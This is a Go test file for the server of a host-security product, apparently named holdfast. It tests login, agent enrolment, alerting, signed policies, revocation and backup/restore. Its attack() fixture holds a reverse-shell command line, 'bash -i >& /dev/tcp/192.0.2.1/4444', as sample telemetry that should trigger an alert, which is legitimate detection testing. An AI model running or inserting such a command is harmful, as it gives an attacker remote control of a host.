package server

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nkeys"
	"go.uber.org/goleak"

	apitypes "github.com/holdfast-security/holdfast/api"
	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/fleet"
	"github.com/holdfast-security/holdfast/internal/hosttest"
	"github.com/holdfast-security/holdfast/server/backup"
	"github.com/holdfast-security/holdfast/server/datadir"
	"github.com/holdfast-security/holdfast/server/metrics"
	"github.com/holdfast-security/holdfast/server/statement"
	"github.com/holdfast-security/holdfast/store"
	"github.com/holdfast-security/holdfast/wire"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func testConfig(dir string) Config {
	return Config{DataDir: dir, Listen: "127.0.0.1:0", StreamListen: "127.0.0.1:0", Names: []string{"127.0.0.1"}}
}

// start starts a server on a data directory and returns how to stop it.
func start(t *testing.T, dir string) (*Server, func()) {
	t.Helper()
	return startWith(t, dir, func(*Config) {})
}

// startWith is start with a configuration that change may change.
func startWith(t *testing.T, dir string, change func(*Config)) (*Server, func()) {
	t.Helper()
	cfg := testConfig(dir)
	change(&cfg)
	s, err := New(t.Context(), cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	s.commitAge, s.beats.Every = 200*time.Millisecond, 100*time.Millisecond
	stopped := false
	stop := func() {
		if stopped {
			return
		}
		stopped = true
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if err := s.Stop(ctx); err != nil {
			t.Errorf("stop: %v", err)
		}
		if err := s.Stop(ctx); err != nil {
			t.Errorf("stop again: %v", err)
		}
	}
	t.Cleanup(stop)
	if err := s.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	return s, stop
}

// eventually waits for a condition.
func eventually(t *testing.T, what string, holds func() bool) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); !holds(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("still not: %s", what)
		}
	}
}

// browser is a client of the API.
type browser struct {
	t    *testing.T
	base string
	http *http.Client
	csrf string
}

func newBrowser(t *testing.T, s *Server) *browser {
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	transport := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}
	t.Cleanup(transport.CloseIdleConnections)
	return &browser{t: t, base: s.URL(), http: &http.Client{Jar: jar, Transport: transport}}
}

// do sends a request and decodes the answer into out.
func (b *browser) do(method, path string, in, out any) int {
	b.t.Helper()
	var body bytes.Buffer
	if in != nil {
		if err := json.NewEncoder(&body).Encode(in); err != nil {
			b.t.Fatal(err)
		}
	}
	r, err := http.NewRequestWithContext(b.t.Context(), method, b.base+path, &body)
	if err != nil {
		b.t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/json")
	if b.csrf != "" {
		r.Header.Set(apitypes.CSRFHeader, b.csrf)
	}
	answer, err := b.http.Do(r)
	if err != nil {
		b.t.Fatal(err)
	}
	defer answer.Body.Close()
	data, err := io.ReadAll(answer.Body)
	if err != nil {
		b.t.Fatal(err)
	}
	if out != nil && answer.StatusCode < 300 {
		if err := json.Unmarshal(data, out); err != nil {
			b.t.Fatalf("%s %s: %v: %s", method, path, err, data)
		}
	}
	if answer.StatusCode >= 400 {
		b.t.Logf("%s %s: %s", method, path, data)
	}
	return answer.StatusCode
}

func (b *browser) logOn(name, password string) int {
	b.t.Helper()
	var session struct {
		CSRF string `json:"csrf"`
	}
	status := b.do("POST", "/api/v1/session", map[string]string{"name": name, "password": password}, &session)
	b.csrf = session.CSRF
	return status
}

// agent is a host's side, as far as these tests need it.
type agent struct {
	t       *testing.T
	host    event.HostID
	nc      *nats.Conn
	frames  uint64
	events  uint64
	encoder *wire.Encoder
}

// enrolToken makes a token by which a host may join.
func enrolToken(t *testing.T, b *browser) wire.Token {
	t.Helper()
	var made struct {
		Secret string `json:"secret"`
	}
	if status := b.do("POST", "/api/v1/enroll-tokens", map[string]any{"note": "test", "expires_in_seconds": 3600}, &made); status >= 300 {
		t.Fatalf("a token: status %d", status)
	}
	token, err := wire.ParseToken(made.Secret)
	if err != nil {
		t.Fatal(err)
	}
	return token
}

// enrol makes a host.
func enrol(t *testing.T, b *browser) *agent {
	t.Helper()
	token := enrolToken(t, b)
	pair, err := nkeys.CreateUser()
	if err != nil {
		t.Fatal(err)
	}
	public, _ := pair.PublicKey()
	proof, err := pair.Sign([]byte("holdfast enroll\x00" + token.Secret))
	if err != nil {
		t.Fatal(err)
	}
	var reply wire.EnrollReply
	status := b.do("POST", "/api/v1/enroll", wire.EnrollRequest{
		Version: wire.Version, Token: token.Secret, PublicKey: public, Proof: proof, Hostname: "web-1", OS: "linux", Arch: "amd64", Agent: "test",
	}, &reply)
	if status >= 300 {
		t.Fatalf("enrol: status %d", status)
	}
	nc, err := nats.Connect(reply.Streams[0], nats.Secure(&tls.Config{InsecureSkipVerify: true}), nats.CustomInboxPrefix(wire.Inbox(reply.Host)),
		nats.UserJWT(func() (string, error) { return reply.Credential, nil }, pair.Sign))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	return &agent{t: t, host: reply.Host, nc: nc, encoder: wire.NewEncoder()}
}

// send sends a frame until it is accepted.
func (a *agent) send(events ...*event.Event) {
	a.t.Helper()
	a.frames++
	h := wire.Header{Epoch: wire.Epoch{7}, Sequence: a.frames, First: a.events + 1, Made: time.Now()}
	a.events += uint64(len(events))
	data, err := a.encoder.AppendFrame(nil, h, events)
	if err != nil {
		a.t.Fatal(err)
	}
	eventually(a.t, "the frame is accepted", func() bool {
		answer, err := a.nc.Request(wire.Up(a.host, wire.Events), data, time.Minute)
		if err != nil {
			return false
		}
		var ack wire.Ack
		return json.Unmarshal(answer.Data, &ack) == nil && ack.Code == wire.Accepted
	})
}

// attack is a reverse shell, and what it is started from.
func attack() *event.Event {
	now := time.Now()
	return &event.Event{
		Time: now, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Status: event.StatusSuccess, Serial: 1,
		Process: &event.Process{
			PID: 4242, Name: "bash", Executable: &event.File{Path: "/bin/bash"}, Arguments: []string{"bash", "-i"},
			CommandLine: "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Started: now, Executed: now,
			User: event.User{UID: 33, Name: "www-data"},
		},
	}
}

func TestPasswordStaysOutOfLogs(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	var log bytes.Buffer
	password := ""
	cfg := Config{DataDir: t.TempDir(), Listen: "127.0.0.1:0", StreamListen: "127.0.0.1:0"}
	err := Run(ctx, cfg, &log, func(s *Server) { password = s.FirstPassword(); cancel() })
	if err != nil || password == "" {
		t.Fatalf("password %q, %v", password, err)
	}
	if strings.Contains(log.String(), password) || !strings.Contains(log.String(), cfg.path(firstPasswordName)) {
		t.Errorf("the log says:\n%s", &log)
	}
}

func TestFromFrameToAlertAndBack(t *testing.T) {
	dir := t.TempDir()
	s, stop := start(t, dir)
	b := newBrowser(t, s)
	if status := b.logOn(FirstAdmin, "wrong password"); status != http.StatusUnauthorized {
		t.Errorf("with a wrong password the status is %d", status)
	}
	if status := b.logOn(FirstAdmin, s.FirstPassword()); status >= 300 {
		t.Fatalf("with the first password the status is %d", status)
	}
	a := enrol(t, b)
	a.send(attack(), attack())
	var alerts store.List[struct {
		ID   string       `json:"uid"`
		Host event.HostID `json:"host"`
	}]
	eventually(t, "the alert is there", func() bool {
		return b.do("GET", "/api/v1/alerts", nil, &alerts) < 300 && len(alerts.Items) > 0
	})
	if alerts.Items[0].Host != a.host {
		t.Errorf("the alert is of host %q, not %q", alerts.Items[0].Host, a.host)
	}
	beat, err := json.Marshal(fleet.Heartbeat{Time: time.Now(), Hostname: "web-1", Ledger: fleet.Ledger{
		Epoch: "0700000000000000", Produced: 3, Sequenced: 2, Acknowledged: 2, Dropped: map[fleet.Reason]uint64{fleet.KernelLost: 1},
	}})
	if err != nil {
		t.Fatal(err)
	}
	if err := a.nc.Publish(wire.Up(a.host, wire.Heartbeat), beat); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the ledger balances", func() bool {
		report, err := s.Ledger(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		return report.Total.Stored == 2 && report.Total.Produced == 3 && report.Total.Unaccounted == 0
	})
	checkPolicy(t, s, a)
	if err := s.Ready(t.Context()); err != nil {
		t.Errorf("not ready: %v", err)
	}
	var page bytes.Buffer
	recorder := httptest.NewRecorder()
	metrics.Handler(s.measure).ServeHTTP(recorder, httptest.NewRequest("GET", "/metrics", nil))
	page.ReadFrom(recorder.Body)
	for _, line := range []string{"holdfast_ingest_events_total 2", "holdfast_agents_connected 1", "holdfast_ready 1", "holdfast_alerts_raised_total 1"} {
		if !strings.Contains(page.String(), line+"\n") {
			t.Errorf("metrics lack %q", line)
		}
	}
	if strings.Contains(page.String(), string(a.host)) || strings.Contains(page.String(), "web-1") {
		t.Error("metrics name a host")
	}
	stop()
	s, _ = start(t, dir)
	if s.FirstPassword() != "" {
		t.Error("a second start made another first administrator")
	}
	list, err := s.telemetry.Events(t.Context(), store.EventFilter{Host: a.host})
	if err != nil || len(list.Items) != 2 {
		t.Errorf("after a restart there are %d events, %v", len(list.Items), err)
	}
}

// checkPolicy fetches the policy of a host and changes it.
func checkPolicy(t *testing.T, s *Server, a *agent) {
	t.Helper()
	sub, err := a.nc.SubscribeSync(wire.Down(a.host))
	if err != nil {
		t.Fatal(err)
	}
	answer, err := a.nc.Request(wire.Up(a.host, wire.Fetch), nil, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	last := verify(t, s, a, answer.Data, 0)
	if _, err := s.state.SaveSetting(t.Context(), statement.PoliciesName, 0, []byte(`{"assignments": [{"labels": {"group": "web"}, "policy": {"disable": ["perf"]}}]}`)); err != nil {
		t.Fatal(err)
	}
	if err := s.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	state := &watchedState{s.state, s}
	if _, err := state.ChangeHost(t.Context(), a.host, store.AnyVersion, func(h *fleet.Host) error {
		h.Labels = map[string]string{"group": "web"}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	pushed, err := sub.NextMsg(time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	verify(t, s, a, pushed.Data, last)
	if !strings.Contains(string(statementIn(t, pushed.Data).Body), "perf") {
		t.Error("the changed policy does not say what it should")
	}
}

func statementIn(t *testing.T, data []byte) wire.Statement {
	t.Helper()
	var signed wire.Signed
	var st wire.Statement
	if err := errors.Join(json.Unmarshal(data, &signed), json.Unmarshal(signed.Message, &st)); err != nil {
		t.Fatal(err)
	}
	return st
}

// verify checks a policy as an agent does and returns its serial number.
func verify(t *testing.T, s *Server, a *agent, data []byte, last uint64) uint64 {
	t.Helper()
	var signed wire.Signed
	if err := json.Unmarshal(data, &signed); err != nil {
		t.Fatalf("%v: %s", err, data)
	}
	st, err := signed.Verify(s.keys.Signing().PublicKey(), a.host, time.Now(), func(wire.Kind) uint64 { return last })
	if err != nil {
		t.Fatal(err)
	}
	return st.Serial
}

func TestRevokedHostIsCutOff(t *testing.T) {
	s, _ := start(t, t.TempDir())
	b := newBrowser(t, s)
	b.logOn(FirstAdmin, s.FirstPassword())
	a := enrol(t, b)
	a.send(attack())
	if status := b.do("POST", "/api/v1/hosts/"+string(a.host)+"/revoke", nil, nil); status >= 300 {
		t.Fatalf("revoke: status %d", status)
	}
	eventually(t, "the host is cut off", func() bool { return !a.nc.IsConnected() })
}

func TestOneServerForADataDirectory(t *testing.T) {
	dir := t.TempDir()
	start(t, dir)
	_, err := New(t.Context(), testConfig(dir), nil)
	if err == nil || !strings.Contains(err.Error(), "in use by another server") {
		t.Errorf("a second server: %v", err)
	}
}

func TestWhatCannotStartSaysWhyAndLeavesNothing(t *testing.T) {
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer taken.Close()
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		change func(*Config)
		want   string
	}{
		"taken port":          {func(c *Config) { c.Listen = taken.Addr().String() }, "set listen"},
		"taken stream port":   {func(c *Config) { c.StreamListen = taken.Addr().String() }, taken.Addr().String()},
		"file as directory":   {func(c *Config) { c.DataDir = file }, file},
		"missing certificate": {func(c *Config) { c.CertificateFile, c.KeyFile = file+".pem", file+".key" }, file},
		"missing rules":       {func(c *Config) { c.Rules = []string{file + ".yml"} }, file + ".yml"},
		"missing DSN":         {func(c *Config) { c.DatabaseFile = file + ".dsn" }, file + ".dsn"},
	} {
		t.Run(name, func(t *testing.T) {
			cfg := testConfig(t.TempDir())
			c.change(&cfg)
			err := Run(t.Context(), cfg, io.Discard, func(*Server) { t.Error("it started") })
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want an error with %q", err, c.want)
			}
			if name == "file as directory" {
				return
			}
			lock, err := datadir.Open(cfg.DataDir)
			if err != nil {
				t.Fatalf("the directory is not free afterwards: %v", err)
			}
			lock.Close()
		})
	}
}

func TestBackupAndRestore(t *testing.T) {
	dir := t.TempDir()
	s, stop := start(t, dir)
	b := newBrowser(t, s)
	b.logOn(FirstAdmin, s.FirstPassword())
	a := enrol(t, b)
	a.send(attack())
	eventually(t, "the event is stored", func() bool { return s.pipeline.Status().Stored > 0 })
	var out, log bytes.Buffer
	file := filepath.Join(t.TempDir(), "backup.tar")
	if code := Command(t.Context(), []string{"backup", "--data", dir, file}, &out, &log); code != exitDone {
		t.Fatalf("backup of a running server: code %d, %s", code, &log)
	}
	if code := Command(t.Context(), []string{"backup", "--data", dir, file}, &out, &log); code != exitFailed {
		t.Errorf("a backup over another one: code %d", code)
	}
	if code := Command(t.Context(), []string{"admin", "reset-password", FirstAdmin, "--data", dir}, &out, &log); code != exitDone {
		t.Fatalf("reset-password at a running server: code %d, %s", code, &log)
	}
	if _, err := os.Stat(filepath.Join(dir, firstPasswordName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the file with the first password is still there: %v", err)
	}
	a.send(attack()) // after the backup: the restored server must notice that it is missing
	a.nc.Close()
	stop()
	offline := filepath.Join(t.TempDir(), "offline.tar")
	if code := Command(t.Context(), []string{"backup", "--data", dir, offline}, &out, &log); code != exitDone {
		t.Fatalf("backup without a server: code %d, %s", code, &log)
	}
	restored := filepath.Join(t.TempDir(), "restored")
	if code := Command(t.Context(), []string{"restore", file, "--data", restored}, &out, &log); code != exitDone {
		t.Fatalf("restore: code %d, %s", code, &log)
	}
	if code := Command(t.Context(), []string{"restore", file, "--data", restored}, &out, &log); code != exitFailed {
		t.Errorf("restore into a directory with something in it: code %d", code)
	}
	again, _ := start(t, restored)
	list, err := again.telemetry.Events(t.Context(), store.EventFilter{Host: a.host})
	if err != nil || len(list.Items) != 1 {
		t.Errorf("after restoring there are %d events, %v", len(list.Items), err)
	}
	if !again.registry.Active(a.host) {
		t.Error("the host is not there after restoring")
	}
	// The new stream numbers from the beginning; ingestion must notice.
	if name, err := partitionName(t.Context(), again.state, again.stream); err != nil || name == "0" {
		t.Errorf("the positions are taken for those of the old stream: %q, %v", name, err)
	}
}

func TestDamagedBackupsAreRefused(t *testing.T) {
	dir := t.TempDir()
	s, err := New(t.Context(), testConfig(dir), nil)
	if err != nil {
		t.Fatal(err)
	}
	var whole bytes.Buffer
	if err := errors.Join(s.Backup(t.Context(), &whole), s.Stop(t.Context())); err != nil {
		t.Fatal(err)
	}
	flipped := bytes.Clone(whole.Bytes())
	flipped[5000] ^= 1
	for name, data := range map[string][]byte{
		"empty": {}, "cut off": whole.Bytes()[:whole.Len()/2], "changed": flipped, "no archive": []byte("nothing of the kind"),
	} {
		t.Run(name, func(t *testing.T) {
			file, to := filepath.Join(t.TempDir(), "b.tar"), filepath.Join(t.TempDir(), "d")
			if err := os.WriteFile(file, data, 0o600); err != nil {
				t.Fatal(err)
			}
			if _, err := backup.Restore(t.Context(), file, to, namedSegments); err == nil {
				t.Error("it was restored")
			}
			if entries, err := os.ReadDir(to); err != nil || len(entries) > 0 {
				t.Errorf("what was made is still there: %v, %v", entries, err)
			}
		})
	}
}

// TestLostKeysAreNotMadeAnew takes the keys away from a server's data: new ones
// would cut off every host.
func TestLostKeysAreNotMadeAnew(t *testing.T) {
	dir := t.TempDir()
	cfg := testConfig(dir)
	s, err := New(t.Context(), cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	keys := filepath.Join(dir, backup.KeysName)
	if err := os.Rename(filepath.Join(keys, "signing.nk"), filepath.Join(dir, "kept")); err != nil {
		t.Fatal(err)
	}
	if _, err := New(t.Context(), cfg, nil); err == nil || !strings.Contains(err.Error(), "restore the keys from a backup") {
		t.Errorf("without its keys: %v", err)
	}
	if _, err := os.Stat(filepath.Join(keys, "signing.nk")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a key was made: %v", err)
	}
	if err := os.Rename(filepath.Join(dir, "kept"), filepath.Join(keys, "signing.nk")); err != nil {
		t.Fatal(err)
	}
	if s, err = New(t.Context(), cfg, nil); err != nil {
		t.Fatal(err)
	}
	if err := s.Stop(t.Context()); err != nil {
		t.Error(err)
	}
}

func TestCommandLine(t *testing.T) {
	config := filepath.Join(t.TempDir(), "server.yaml")
	if err := os.WriteFile(config, []byte("lisen: ':8443'\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]struct {
		code int
		text string
	}{
		"":                           {exitUsage, "give a command"},
		"help":                       {exitDone, "holdfast-server backup"},
		"run --help":                 {exitDone, "holdfast-server backup"},
		"version":                    {exitDone, "holdfast-server "},
		"fly":                        {exitUsage, `"fly"`},
		"run now":                    {exitUsage, `nothing to do with "now"`},
		"run --fast":                 {exitUsage, "see holdfast-server help"},
		"backup":                     {exitUsage, "FILE is missing"},
		"run --config " + config:     {exitUsage, "lisen"},
		"check --config " + config:   {exitUsage, "lisen"},
		"check":                      {exitDone, "rules"},
		"check --config /none/x":     {exitUsage, "/none/x"},
		"restore x":                  {exitUsage, "--data"},
		"restore /none/x --data d/x": {exitFailed, "/none/x"},
		"backup --data /none/x b":    {exitFailed, "no server's data"},
		"admin":                      {exitUsage, "reset-password"},
	} {
		t.Run(line, func(t *testing.T) {
			t.Chdir(t.TempDir())
			var out bytes.Buffer
			code := Command(t.Context(), strings.Fields(line), &out, &out)
			if code != want.code || !strings.Contains(out.String(), want.text) {
				t.Errorf("code %d, want %d; %s", code, want.code, &out)
			}
		})
	}
}

// TestServerNeedsNoRights runs a server as a user without any.
func TestServerNeedsNoRights(t *testing.T) {
	if !hosttest.Unprivileged(t) {
		return
	}
	s, _ := start(t, filepath.Join(t.TempDir(), "data"))
	if a := enrol(t, admin(t, s)); a.host == "" {
		t.Error("no host enrols")
	}
	if err := s.Ready(t.Context()); err != nil {
		t.Error(err)
	}
}
